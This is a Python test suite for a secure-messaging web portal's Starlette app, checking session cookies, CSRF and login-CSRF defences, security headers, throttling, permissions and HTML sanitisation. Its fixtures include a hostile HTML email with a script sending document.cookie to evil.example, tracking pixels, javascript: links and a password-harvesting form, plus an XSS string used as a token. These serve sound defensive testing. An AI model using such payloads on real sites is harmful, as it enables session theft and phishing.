"""``secmsg portal serve``'s app, route by route with Starlette's TestClient,
over the demo store with every demo message delivered: every state a copy
can be in, the token exchanged for a session, CSRF, the security headers,
the throttle, and what each action writes to the store and the outbox.

Copies (see tests/web/conftest.py): 1 is Martin's under "Legal/7-Day Expiry,
Receipt" (reply only, a read receipt, expires 2026-12-04 10:00), 2 Martin's
under "Legal/Client Correspondence" (view, print, reply, reply all)."""

from __future__ import annotations

import json
import sqlite3
from datetime import UTC, datetime

import pytest

from tests.helpers import ok
from tests.web.conftest import outbox_kinds

AFTER_EXPIRY = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)


def sign_in(client, token: str):
    """Follow the notification's link and press its page's button: the
    answer that sets the session cookie."""
    page = client.get(f"/portal?token={token}")
    assert page.status_code == 200 and 'id="open"' in page.text, page.text
    assert "set-cookie" not in page.headers
    r = client.post("/portal/open", data={"token": token})
    assert r.status_code == 303, r.text
    return r


def audit(portal, action: str) -> list[dict]:
    with sqlite3.connect(portal.db) as conn:
        rows = conn.execute(
            "SELECT object, after FROM audit WHERE action = ? ORDER BY id", (action,)
        ).fetchall()
    return [{"object": o, **json.loads(a or "{}")} for o, a in rows]


def read_at(portal, copy_id: int) -> str | None:
    with sqlite3.connect(portal.db) as conn:
        return conn.execute(
            "SELECT read_at FROM portal_copies WHERE id = ?", (copy_id,)
        ).fetchone()[0]


def csrf_of(page: str) -> str:
    import re

    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


# --- the link, the session ------------------------------------------------------------------


def test_the_link_is_exchanged_for_a_session_cookie_and_a_url_without_the_token(portal):
    client = portal.client()
    token = portal.tokens()[2]
    r = sign_in(client, token)
    assert r.headers["location"] == "/portal/"
    cookie = r.headers["set-cookie"]
    assert cookie.startswith("secmsg_portal=")
    flags = {part.strip().lower() for part in cookie.split(";")[1:]}
    assert {"httponly", "samesite=strict", "path=/portal"} <= flags
    assert "secure" in flags  # the account's portal_url is https
    assert token not in cookie and token.split(".")[1] not in r.text
    assert read_at(portal, 2) is None  # signing in is not reading
    page = client.get("/portal/")
    assert page.status_code == 200
    assert "Engagement letter and next steps" in page.text
    assert read_at(portal, 2) == "2026-11-28T09:00:00+00:00"
    assert [a["object"] for a in audit(portal, "open")] == ["2"]


def test_over_https_the_cookie_is_secure(portal):
    from starlette.testclient import TestClient

    client = TestClient(portal.app(), base_url="https://testserver", follow_redirects=False)
    r = sign_in(client, portal.tokens()[2])
    assert "secure" in r.headers["set-cookie"].lower().split("; ")


def test_behind_a_tls_proxy_the_cookie_is_secure(portal):
    """The portal behind the TLS proxy the docs ask for is reached over
    plain http from the proxy: the cookie went out without Secure, and a
    browser sent it over any plain-http request to the portal's host. The
    account's https portal_url, the address recipients use, makes it Secure."""
    from starlette.testclient import TestClient

    client = TestClient(portal.app(), base_url="http://127.0.0.1:8080", follow_redirects=False)
    r = sign_in(client, portal.tokens()[2])  # portal_url: https://secure.harborfinch.com/portal
    assert "secure" in r.headers["set-cookie"].lower().split("; ")
    ok(portal.cli("account", "set", "--portal-url", "http://127.0.0.1:8080/portal"))
    r = sign_in(TestClient(portal.app(), follow_redirects=False), portal.tokens()[2])
    flags = {part.strip().lower() for part in r.headers["set-cookie"].split(";")[1:]}
    assert not any(f.startswith("secure") for f in flags)  # a portal on plain http, as a demo


def test_a_link_scanner_fetching_the_link_reads_nothing(portal):
    """Mail gateways fetch every link of a mail as it arrives, follow
    redirects and keep cookies; they press no button. Copy 1 asks for a read
    receipt: none goes out, the copy stays unread (and can be recalled)."""
    from starlette.testclient import TestClient

    before = outbox_kinds(portal.outbox)
    scanner = TestClient(portal.app(), base_url="https://testserver", follow_redirects=True)
    r = scanner.get(f"/portal?token={portal.tokens()[1]}")
    assert r.status_code == 200 and 'id="open"' in r.text
    assert "Alice Morgan" not in r.text and "alice.morgan@harborfinch.com" in r.text
    assert "Project Heron" not in r.text  # the subject waits for the button
    assert "The sender will be told when you open it." in r.text
    assert not scanner.cookies
    assert scanner.get("/portal/").status_code == 401
    assert read_at(portal, 1) is None and outbox_kinds(portal.outbox) == before
    assert not audit(portal, "open")
    ok(portal.cli("portal", "recall", "1", "--at", "2026-11-28T10:00:00Z"))


def test_a_link_followed_from_another_site_opens_with_the_button(portal):
    """From a webmail's page the link is a cross-site navigation: the page
    comes, and its button (same-origin) opens the message."""
    client = portal.client()
    token = portal.tokens()[2]
    r = client.get(f"/portal?token={token}", headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status_code == 200 and 'action="/portal/open"' in r.text
    r = client.post(
        "/portal/open", data={"token": token}, headers={"Sec-Fetch-Site": "same-origin"}
    )
    assert r.status_code == 303 and "samesite=strict" in r.headers["set-cookie"].lower()
    assert client.get("/portal/").status_code == 200


@pytest.mark.parametrize("site", ["cross-site", "same-site", "none"])
def test_another_site_cannot_sign_a_browser_in(portal, site):
    """A form on another site posting a token (the attacker's own) would sign
    the recipient's browser in to the attacker's message."""
    client = portal.client()
    r = client.post(
        "/portal/open", data={"token": portal.tokens()[2]}, headers={"Sec-Fetch-Site": site}
    )
    assert r.status_code == 403 and "set-cookie" not in r.headers
    assert client.get("/portal/").status_code == 401


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://testserver"])
def test_another_site_cannot_sign_in_a_browser_that_sends_no_fetch_metadata(portal, origin):
    """Browsers before Sec-Fetch-Site (Safari before 16.4, Firefox before 90)
    still say where a POST comes from in Origin: a form on another site
    signed such a browser in to the attacker's message (login CSRF)."""
    client = portal.client()
    r = client.post("/portal/open", data={"token": portal.tokens()[2]}, headers={"Origin": origin})
    assert r.status_code == 403 and "set-cookie" not in r.headers
    assert client.get("/portal/").status_code == 401


def test_the_portal_own_origin_may_post_the_button(portal):
    """Its own origin, as the browser reached it; and that of the account's
    portal_url, which a TLS proxy in front does not pass on as the host."""
    from starlette.testclient import TestClient

    client = portal.client()
    r = client.post(
        "/portal/open", data={"token": portal.tokens()[2]}, headers={"Origin": "https://testserver"}
    )
    assert r.status_code == 303
    behind = TestClient(portal.app(), base_url="http://127.0.0.1:8080", follow_redirects=False)
    for origin in ("https://secure.harborfinch.com", "https://SECURE.harborfinch.com:443"):
        r = behind.post(
            "/portal/open", data={"token": portal.tokens()[2]}, headers={"Origin": origin}
        )
        assert r.status_code == 303, origin


def test_the_open_page_lets_the_button_say_its_origin_but_not_the_token(portal):
    """With Referrer-Policy no-referrer a browser sends "Origin: null" with a
    POST, as a form on any other site can: the open page's policy is
    strict-origin (the origin, never the URL and its token); every other
    page keeps no-referrer."""
    client = portal.client()
    token = portal.tokens()[2]
    r = client.get(f"/portal?token={token}")
    assert r.headers["referrer-policy"] == "strict-origin"
    assert '<meta name="referrer" content="strict-origin">' in r.text
    assert "no-referrer" not in r.text
    sign_in(client, token)
    r = client.get("/portal/")
    assert r.headers["referrer-policy"] == "no-referrer"
    assert '<meta name="referrer" content="no-referrer">' in r.text


def test_the_open_button_checks_the_token_again(portal):
    client = portal.client(attempts=2, window_seconds=600)
    bad = "a" * 12 + "." + "B" * 43
    for status in (403, 403, 429):
        assert client.post("/portal/open", data={"token": bad}).status_code == status
    assert [d["reason"] for d in audit(portal, "access-denied")] == ["invalid token"] * 2 + [
        "throttled"
    ]
    assert (
        client.post(
            "/portal/open", content=b"token=x", headers={"Content-Type": "text/plain"}
        ).status_code
        == 400
    )
    r = client.post("/portal/open", data={"token": "x" * 5000})
    assert r.status_code == 413


def test_a_browser_already_signed_in_goes_straight_to_the_message(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    r = client.get(f"/portal?token={portal.tokens()[2]}")
    assert r.status_code == 303 and r.headers["location"] == "/portal/"
    r = client.get(f"/portal?token={portal.tokens()[1]}")  # another copy's link: its own button
    assert r.status_code == 200 and 'id="open"' in r.text


def test_without_a_session_the_pages_say_to_open_the_link_again(portal):
    client = portal.client()
    for path in ("/portal/", "/portal/print", "/portal/sent"):
        r = client.get(path)
        assert r.status_code == 401 and "Open the link in your notification again" in r.text
    r = client.post("/portal/reply", data={"body": "x", "csrf": "x"})
    assert r.status_code == 401
    client.cookies.set("secmsg_portal", "made-up", path="/portal")
    assert client.get("/portal/").status_code == 401


def test_a_session_ends_after_its_idle_time(portal):
    client = portal.client(session_seconds=60)
    sign_in(client, portal.tokens()[2])
    assert client.get("/portal/").status_code == 200
    portal.tick[0] += 59
    assert client.get("/portal/").status_code == 200  # used: its idle time starts again
    portal.tick[0] += 61
    assert client.get("/portal/").status_code == 401


def test_one_link_opened_again_and_again_does_not_end_other_recipients_sessions(portal):
    """Sessions are capped (max_sessions), the oldest going first: anyone
    holding one valid link could open it until every other recipient's
    session was gone. A token keeps only its latest sessions."""
    from secmsg_cli.web.app import SESSIONS_PER_TOKEN

    victim = portal.client(max_sessions=50)
    sign_in(victim, portal.tokens()[2])
    from starlette.testclient import TestClient

    attacker = TestClient(victim.app, base_url="https://testserver", follow_redirects=False)
    first = sign_in(attacker, portal.tokens()[3]).headers["set-cookie"]
    for _ in range(60):  # the button pressed again and again
        r = attacker.post("/portal/open", data={"token": portal.tokens()[3]})
        assert r.status_code == 303
    assert victim.get("/portal/").status_code == 200
    assert attacker.get("/portal/").status_code == 200  # its latest session
    assert SESSIONS_PER_TOKEN < 50
    attacker.cookies.clear()
    attacker.cookies.set("secmsg_portal", first.split(";")[0].split("=", 1)[1], path="/portal")
    assert attacker.get("/portal/").status_code == 401  # its first: ended


# --- states -----------------------------------------------------------------------------


def test_fresh_then_read_the_read_receipt_only_once(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[1])
    before = len(outbox_kinds(portal.outbox))
    page = client.get("/portal/")
    assert page.status_code == 200 and "Project Heron" in page.text
    kinds = outbox_kinds(portal.outbox)
    assert kinds[before:] == [("read-receipt", "Alice Morgan <alice.morgan@harborfinch.com>")]
    portal.now[0] = portal.now[0].replace(hour=10)
    assert client.get("/portal/").status_code == 200
    assert len(outbox_kinds(portal.outbox)) == before + 1  # read already: no second receipt
    assert read_at(portal, 1) == "2026-11-28T09:00:00+00:00"


def test_the_page_enables_exactly_what_the_definition_allows(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[1])
    page = client.get("/portal/").text
    assert "<fieldset>" in page  # the reply form works
    assert 'id="reply-all" disabled' in page and 'id="print" disabled' in page
    assert "Reply to all is not allowed" in page and "Printing is not allowed" in page
    assert 'class="no-print"' in page  # print CSS hides the message
    client2 = portal.client()
    sign_in(client2, portal.tokens()[2])
    page2 = client2.get("/portal/").text
    assert " disabled" not in page2 and 'class="no-print"' not in page2


def test_expired_without_expired_view(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[1])
    assert client.get("/portal/").status_code == 200
    portal.now[0] = AFTER_EXPIRY
    for r in (client.get("/portal/"), client.get(f"/portal?token={portal.tokens()[1]}")):
        assert r.status_code == 410
        assert "This secure message has expired" in r.text
        assert "2026-12-04 10:00 GMT" in r.text and "Project Heron" not in r.text
    assert [d["reason"] for d in audit(portal, "access-denied")] == ["expired", "expired"]


def test_expired_with_expired_view_shows_it_but_no_reply(portal):
    ok(portal.cli("account", "set", "--expired-view"))
    client = portal.client()
    portal.now[0] = datetime(2026, 12, 28, tzinfo=UTC)  # copy 2 expired 2026-12-27 10:00
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/")
    assert page.status_code == 200
    assert "This secure message expired on 2026-12-27 10:00 GMT" in page.text
    assert (
        "<fieldset disabled>" in page.text and "Replies are not possible after expiry" in page.text
    )
    assert 'id="print" disabled' not in page.text
    r = client.post("/portal/reply", data={"body": "late", "csrf": csrf_of(page.text)})
    assert r.status_code == 403 and "Replying is not allowed" in r.text
    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]
    assert client.get("/portal/print").status_code == 200


def test_recalled(portal):
    client = portal.client()
    ok(portal.cli("portal", "recall", "3", "--at", "2026-11-27T11:00:00Z"))
    r = client.get(f"/portal?token={portal.tokens()[3]}")
    assert r.status_code == 410 and "no longer available" in r.text
    assert "expenses" not in r.text


def test_revoked_after_the_session_began(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    assert client.get("/portal/").status_code == 200
    ok(portal.cli("portal", "revoke", "2", "--at", "2026-11-28T09:30:00Z"))
    r = client.get("/portal/")
    assert r.status_code == 410
    assert "This secure message was revoked" in r.text and "2026-11-28 09:30 GMT" in r.text
    assert client.get("/portal/print").status_code == 410


@pytest.mark.parametrize(
    "make",
    [
        lambda t: t[:-1] + ("A" if t[-1] != "A" else "B"),  # the right id, a wrong secret
        lambda t: "0" * 12 + t[12:],  # an id no copy has
        lambda t: t[:20],  # truncated
        lambda t: "<script>alert(1)</script>",
    ],
    ids=["wrong-secret", "unknown-id", "truncated", "garbage"],
)
def test_a_wrong_token_gets_the_one_refusal_page(portal, make):
    client = portal.client()
    token = portal.tokens()[2]
    r = client.get("/portal", params={"token": make(token)})
    assert r.status_code == 403
    assert "This link does not open a secure message" in r.text
    assert "set-cookie" not in r.headers and "<script>alert" not in r.text
    reference = client.get("/portal", params={"token": "f" * 12 + "." + "A" * 43})
    assert reference.text == r.text  # nothing tells whether the id exists
    denied = audit(portal, "access-denied")
    assert denied[0]["reason"] == "invalid token" and token not in json.dumps(denied)


# --- actions --------------------------------------------------------------------------


def test_reply_goes_to_the_outbox_and_the_page_says_so(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    r = client.post(
        "/portal/reply", data={"body": "Received, thanks.", "all": "0", "csrf": csrf_of(page)}
    )
    assert r.status_code == 303 and r.headers["location"] == "/portal/sent"
    sent = client.get("/portal/sent")
    assert "Your reply was sent to farah.nasser@harborfinch.com." in sent.text
    replies = [to for kind, to in outbox_kinds(portal.outbox) if kind == "reply"]
    assert replies == ["Farah Nasser <farah.nasser@harborfinch.com>"]
    assert [a["object"] for a in audit(portal, "reply")] == ["2"]
    assert client.get("/portal/sent").status_code == 303  # said once


def test_a_reply_whose_mail_cannot_reach_the_outbox_yet_is_done_not_to_repeat(portal, monkeypatch):
    """A full disk after the commit: the reply is recorded, so the page must
    not ask to try again (a second send would be a second reply); its mail
    goes out with the next request once the outbox can be written."""
    from secmsg_cli.delivery.outbox import Outbox

    client = portal.client()
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    real = Outbox._move_to_new
    monkeypatch.setattr(
        Outbox, "_move_to_new", lambda self, name: (_ for _ in ()).throw(OSError(28, "No space"))
    )
    r = client.post("/portal/reply", data={"body": "Once.", "all": "0", "csrf": csrf_of(page)})
    assert r.status_code == 202 and "do not send it again" in r.text, r.text
    assert "Try again" not in r.text
    assert [a["object"] for a in audit(portal, "reply")] == ["2"]
    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]
    monkeypatch.setattr(Outbox, "_move_to_new", real)
    assert client.get("/portal/").status_code == 200  # the next request sends it
    assert [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"] == ["reply"]
    assert list((portal.outbox / "tmp").iterdir()) == []


def test_reply_all_refused_where_the_definition_does_not_allow_it(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[1])
    page = client.get("/portal/").text
    r = client.post("/portal/reply", data={"body": "to all", "all": "1", "csrf": csrf_of(page)})
    assert r.status_code == 403 and "Reply to all is not allowed" in r.text
    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]


def test_an_empty_reply_shows_the_form_again(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    r = client.post("/portal/reply", data={"body": "  \n", "csrf": csrf_of(page)})
    assert r.status_code == 400 and "The reply is empty." in r.text
    assert 'name="csrf"' in r.text


def test_a_reply_longer_than_a_reply_may_be_is_shown_again_not_cut(portal):
    """The textarea's maxlength counts a line break as one character, and the
    browser sends it as two (CRLF): a reply at the limit arrived longer than
    MAX_REPLY, and its end was cut off without a word."""
    from secmsg_cli.web.pages import MAX_REPLY

    client = portal.client()
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    at_limit = "a\r\n" * (MAX_REPLY // 2 - 4) + "THE END"  # MAX_REPLY - 1 characters once LF
    r = client.post("/portal/reply", data={"body": at_limit, "csrf": csrf_of(page)})
    assert r.status_code == 303
    replies = [
        p for p in sorted((portal.outbox / "new").iterdir()) if b"Kind: reply" in p.read_bytes()
    ]
    assert len(replies) == 1 and b"THE END" in replies[0].read_bytes()
    over = "b" * MAX_REPLY + "THE END"
    r = client.post("/portal/reply", data={"body": over, "csrf": csrf_of(page)})
    assert r.status_code == 413
    assert f"The reply is too long: {MAX_REPLY + 7:,} characters" in r.text
    assert over in r.text  # the text typed is kept in the form, to shorten
    assert len([k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]) == 1


def test_an_empty_reply_where_replying_is_refused_says_so(portal):
    """The empty-reply form was shown without asking whether a reply may be
    sent: after expiry (with expired_view) it ended in 'The portal cannot
    answer now' (503) and an error line on the server's stderr."""
    ok(portal.cli("account", "set", "--expired-view"))
    client = portal.client()
    portal.now[0] = datetime(2026, 12, 28, tzinfo=UTC)  # copy 2 expired 2026-12-27 10:00
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    r = client.post("/portal/reply", data={"body": " ", "csrf": csrf_of(page)})
    assert r.status_code == 403 and "Replying is not allowed" in r.text
    client2 = portal.client()
    portal.now[0] = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
    sign_in(client2, portal.tokens()[1])  # copy 1: reply, but not reply to all
    page = client2.get("/portal/").text
    r = client2.post("/portal/reply", data={"body": "", "all": "1", "csrf": csrf_of(page)})
    assert r.status_code == 403 and "Reply to all is not allowed" in r.text


@pytest.mark.parametrize("csrf", [None, "", "wrong"])
def test_a_form_without_the_session_csrf_token_is_refused(portal, csrf):
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    client.get("/portal/")
    data = {"body": "forged"} | ({} if csrf is None else {"csrf": csrf})
    r = client.post("/portal/reply", data=data)
    assert r.status_code == 403 and "The form has expired" in r.text
    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]


def test_a_form_too_large_is_refused_before_it_is_read_whole(portal):
    from secmsg_cli.web.app import MAX_FORM_BYTES

    client = portal.client()
    sign_in(client, portal.tokens()[2])
    page = client.get("/portal/").text
    body = "x" * (MAX_FORM_BYTES + 1)
    r = client.post("/portal/reply", data={"body": body, "csrf": csrf_of(page)})
    assert r.status_code == 413
    chunks = iter([b"csrf=" + csrf_of(page).encode() + b"&body=", b"y" * MAX_FORM_BYTES])
    r = client.post(
        "/portal/reply",
        content=chunks,  # streamed: no Content-Length
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413
    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]


def test_print_refused_where_not_allowed_and_served_where_allowed(portal):
    client = portal.client()
    sign_in(client, portal.tokens()[1])
    r = client.get("/portal/print")
    assert r.status_code == 403 and "Printing is not allowed" in r.text
    client2 = portal.client()
    sign_in(client2, portal.tokens()[2])
    r2 = client2.get("/portal/print")
    assert r2.status_code == 200 and "Printed from the Secure Messaging Portal" in r2.text
    csp = r2.headers["content-security-policy"]
    assert "style-src 'sha256-" in csp and "unsafe-inline" not in csp
    assert [a["object"] for a in audit(portal, "print")] == ["2"]


# --- security --------------------------------------------------------------------------


def test_every_answer_has_the_security_headers(portal):
    client = portal.client()
    answers = [
        client.get("/portal/"),
        client.get("/portal?token=nothing"),
        client.get("/elsewhere"),
        sign_in(client, portal.tokens()[2]),
        client.get("/portal/"),
        client.get("/portal/print"),
    ]
    for r in answers:
        csp = r.headers["content-security-policy"]
        assert csp.startswith("default-src 'none'") and "frame-ancestors 'none'" in csp
        assert "script-src" not in csp and "unsafe" not in csp
        assert r.headers["referrer-policy"] == "no-referrer"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["cache-control"] == "no-store"
        assert "<script" not in r.text


def test_an_unexpected_failure_still_has_the_security_headers(portal, monkeypatch):
    """Starlette answers an unexpected exception (500) from outside the app's
    own middleware: that answer had none of the security headers."""
    from secmsg_cli.delivery import lifecycle

    def broken(*args, **kwargs):
        raise OSError("the disk is on fire")

    monkeypatch.setattr(lifecycle, "open_copy", broken)
    client = portal.client(raise_server_exceptions=False)
    sign_in(client, portal.tokens()[2])
    r = client.get("/portal/")
    assert r.status_code == 500
    assert r.headers["content-security-policy"].startswith("default-src 'none'")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["cache-control"] == "no-store"
    assert "The portal cannot answer now" in r.text and "disk" not in r.text


@pytest.mark.parametrize(
    ("dest", "mode"), [("image", "no-cors"), ("iframe", "navigate"), ("empty", "cors")]
)
def test_a_page_of_the_same_site_cannot_read_or_print_the_message_for_the_recipient(
    portal, dest, mode
):
    """SameSite=Strict sends the cookie with any request from the same site:
    another port of 127.0.0.1, or any host of the portal's domain
    (www.harborfinch.com for secure.harborfinch.com). An <img> or <iframe>
    there fetched the message and the printable page: the copy was marked
    read, the sender got a read receipt and the audit log a print nobody saw
    (frame-ancestors only stops the frame from being shown). Only a page
    the browser itself shows opens them."""
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    before = outbox_kinds(portal.outbox)
    fetched = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": dest, "Sec-Fetch-Mode": mode}
    for path in ("/portal/", "/portal/print"):
        r = client.get(path, headers=fetched)
        assert r.status_code == 403 and "Engagement letter" not in r.text
    assert read_at(portal, 2) is None and audit(portal, "print") == []
    assert outbox_kinds(portal.outbox) == before
    shown = {
        "Sec-Fetch-Site": "same-origin",
        "Sec-Fetch-Dest": "document",
        "Sec-Fetch-Mode": "navigate",
    }
    assert client.get("/portal/print", headers=shown).status_code == 200
    assert client.get("/portal/").status_code == 200  # a browser without these headers


def test_a_head_request_reads_nothing(portal):
    """Starlette answers HEAD wherever it answers GET, by running the GET
    handler and dropping the body: a HEAD of the message marked it read (a
    read receipt, no recall), of the printable page audited a print, of an
    attachment audited a download, with nothing shown to anyone. Link
    checkers and proxies send HEAD; browsers never do."""
    client = portal.client()
    sign_in(client, portal.tokens()[2])
    before = outbox_kinds(portal.outbox)
    for path in (
        "/portal/",
        "/portal/print",
        "/portal/sent",
        f"/portal?token={portal.tokens()[2]}",
    ):
        r = client.head(path)
        assert r.status_code == 405, path
        assert r.headers["allow"] == "GET"
        assert r.headers["x-content-type-options"] == "nosniff"
    assert read_at(portal, 2) is None
    assert audit(portal, "open") == [] and audit(portal, "print") == []
    assert outbox_kinds(portal.outbox) == before
    assert client.get("/portal/").status_code == 200


def test_the_page_style_is_allowed_by_its_hash(portal):
    from secmsg_cli.web import pages

    client = portal.client()
    sign_in(client, portal.tokens()[2])
    r = client.get("/portal/")
    assert pages.style_hash() in r.headers["content-security-policy"]
    assert 'style="' not in r.text  # no inline style attribute (the CSP would block it)


def test_failed_attempts_are_throttled_per_client_and_audited_once(portal):
    client = portal.client(attempts=3, window_seconds=600)
    bad = "a" * 12 + "." + "B" * 43
    for _ in range(3):
        assert client.get("/portal", params={"token": bad}).status_code == 403
    r = client.get("/portal", params={"token": portal.tokens()[2]})  # even a right one waits
    assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
    assert client.get("/portal", params={"token": bad}).status_code == 429
    reasons = [d["reason"] for d in audit(portal, "access-denied")]
    assert reasons == ["invalid token"] * 3 + ["throttled"]
    throttled = audit(portal, "access-denied")[-1]
    assert throttled["client"] == "testclient" and throttled["failures"] == 3
    portal.tick[0] += 601
    assert client.get("/portal", params={"token": portal.tokens()[2]}).status_code == 200


def test_images_of_wrong_links_do_not_throttle_the_recipient(portal):
    """Any page or HTML mail the recipient's browser shows can hold images
    whose addresses are wrong portal links: each was checked, refused and
    counted against the recipient's address, which the throttle then
    suspended (behind a proxy or NAT, everyone's). Only a page the browser
    shows has its link checked."""
    client = portal.client(attempts=3, window_seconds=600)
    bad = "a" * 12 + "." + "B" * 43
    image = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
    for _ in range(5):
        r = client.get("/portal", params={"token": bad}, headers=image)
        assert r.status_code == 403 and 'data-page="not-a-page"' in r.text
    assert audit(portal, "access-denied") == []
    r = client.get("/portal", params={"token": portal.tokens()[2]}, headers=image)
    assert r.status_code == 403 and 'id="open"' not in r.text
    r = client.get("/portal", params={"token": portal.tokens()[2]})
    assert r.status_code == 200 and 'id="open"' in r.text


def test_links_sent_at_once_are_throttled_as_those_sent_one_by_one(portal):
    """Whether a client must wait was asked before its check was queued for
    the store: links sent all at once each passed that question before any
    had failed, and every one of them was checked (3 allowed, 30 checked)."""
    import asyncio

    import httpx

    app = portal.app(attempts=3, window_seconds=600)
    bad = "a" * 12 + "." + "B" * 43

    async def burst() -> list[int]:
        transport = httpx.ASGITransport(app=app, client=("192.0.2.7", 4711))
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
            answers = await asyncio.gather(
                *(c.get("/portal", params={"token": bad}) for _ in range(30))
            )
        return sorted(r.status_code for r in answers)

    assert asyncio.run(burst()) == [403] * 3 + [429] * 27
    reasons = [d["reason"] for d in audit(portal, "access-denied")]
    assert reasons == ["invalid token"] * 3 + ["throttled"]


HOSTILE = """\
From: Alice Morgan <alice.morgan@harborfinch.com>
To: m.okonkwo@lexpartners.com
Subject: Confidential: hostile markup
Message-ID: <hostile-1@harborfinch.com>
Date: Thu, 26 Nov 2026 09:14:05 +0000
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body{background:url(https://evil.example/track.png)}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="steal()"><p style="background:url(https://evil.example/p.png)">Dear Martin,</p>
<img src="https://evil.example/pixel.gif" onerror="alert(1)">
<a href="javascript:alert(1)">click</a> <a href="https://example.com/doc">the document</a>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"></svg>
<p>Regards</p></body></html>
"""


def test_hostile_message_html_is_sanitised(portal):
    new_id = portal.deliver(HOSTILE)
    client = portal.client()
    sign_in(client, portal.tokens()[new_id])
    page = client.get("/portal/").text
    body = page[page.index('<div class="body"') : page.index('<div class="actions"')]
    assert "Dear Martin," in body and "Regards" in body
    for bad in (
        "<script",
        "onload",
        "onerror",
        "javascript:",
        "<meta",
        "url(",
        "evil.example",
        "<img",
        "<form",
        "<input",
        "<iframe",
        "<svg",
        "<style",
        "style=",
    ):
        assert bad not in body.lower(), bad
    assert '<a href="https://example.com/doc" rel="noopener noreferrer">the document</a>' in body


def test_the_throttle_remembers_a_bounded_number_of_clients(portal):
    """Every client that sent a token was remembered for ever (the check of
    one that never failed too): a client with many addresses (IPv6) grew the
    server's memory without end."""
    from secmsg_cli.web.app import Settings, _Throttle

    settings = Settings(
        db=portal.db,
        outbox=None,
        clock=lambda: portal.now[0],
        monotonic=lambda: portal.tick[0],
        attempts=2,
        window_seconds=60,
        max_clients=100,
    )
    throttle = _Throttle(settings)
    for i in range(1000):
        assert throttle.wait(f"2001:db8::{i:x}") == 0
    assert len(throttle.failures) == 0  # asking is not failing
    for i in range(1000):
        throttle.fail(f"2001:db8::{i:x}")
        assert len(throttle.failures) <= 100
    throttle.fail("2001:db8::3e7")  # the newest is remembered, and suspended
    assert throttle.wait("2001:db8::3e7") > 0
    portal.tick[0] += 61
    throttle.fail("192.0.2.1")
    assert throttle.wait("2001:db8::3e7") == 0 and len(throttle.failures) <= 100


TWO_TEXTS = """\
From: Alice Morgan <alice.morgan@harborfinch.com>
To: m.okonkwo@lexpartners.com
Subject: Confidential: two texts around an image
Message-ID: <two-texts-1@harborfinch.com>
Date: Thu, 26 Nov 2026 09:14:05 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

The figures are in the chart below.
--b
Content-Type: image/png; name="chart.png"
Content-Disposition: inline; filename="chart.png"

PNG
--b
Content-Type: text/plain

Wire the balance to account 12345678 by Friday.
--b--
"""


def test_every_text_part_is_shown_not_only_the_first(portal):
    """A mail client shows the text either side of an inline image; the
    portal showed the first part only, and the second never reached the
    recipient, on the page, in print or in a reply's quote."""
    new_id = portal.deliver(TWO_TEXTS)
    client = portal.client()
    sign_in(client, portal.tokens()[new_id])
    page = client.get("/portal/").text
    assert "The figures are in the chart below." in page
    assert "Wire the balance to account 12345678 by Friday." in page
    assert 'id="attachment-1"><bdi>chart.png</bdi>' in page
